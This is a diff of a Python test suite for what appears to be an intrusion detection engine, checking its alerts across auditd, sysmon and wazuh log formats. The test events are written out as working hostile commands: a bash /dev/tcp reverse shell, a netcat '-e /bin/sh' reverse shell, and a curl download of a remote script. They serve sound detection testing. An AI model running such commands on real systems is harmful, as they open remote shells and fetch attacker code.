@@ -131,6 +131,8 @@ class TestAgreement:
                    exec_of(["bash", "-c", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"]),
                    exec_of(["curl", "http://10.1.2.3/x.sh", "-o", "/tmp/x.sh"]),
                    exec_of(["base64", "-d", "/tmp/p"], process__parent__name="sh")]
+        nc = Exec(args=("nc", "-e", "/bin/sh", "10.1.2.3", "4444"), exe="/usr/bin/nc")
+        events += [WRITERS[fmt](nc) for fmt in ("auditd", "sysmon-syslog", "wazuh-audit", "cmdline")]
         alerted = 0
         for event in events:
             expected = run_ids(public, event)
@@ -288,7 +290,7 @@ class TestSequence:
         assert [(s["step"], s["held"]) for s in r["steps"]] == [("1", False), ("2", True)]
         text = explain(shipped, Settings(), _bytes(net()), "event", choose(shipped, [], [REVERSE_SHELL_SEQUENCE]),
                        as_json=False)
-        assert "this event satisfies steps 2" in text
+        assert "this event satisfies step 2\n" in text
 
 
 class TestFormats:
